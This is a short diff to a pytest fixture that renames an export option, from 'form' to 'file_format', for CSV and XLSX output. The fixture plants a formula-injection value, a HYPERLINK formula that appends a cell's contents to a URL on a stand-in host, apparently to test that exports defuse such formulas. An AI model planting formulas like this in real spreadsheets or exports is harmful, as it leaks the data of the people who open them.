@@ -123,7 +123,7 @@ def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path, _ = planted(folder / "planted.theralog", '=HYPERLINK("http://x.test/"&A1;"y")')
     with Casebook.open(path) as casebook:
         for form in ("csv", "xlsx"):
-            export(casebook, folder / form, options=ExportOptions(form=form))
+            export(casebook, folder / form, options=ExportOptions(file_format=form))
     return folder
 
 
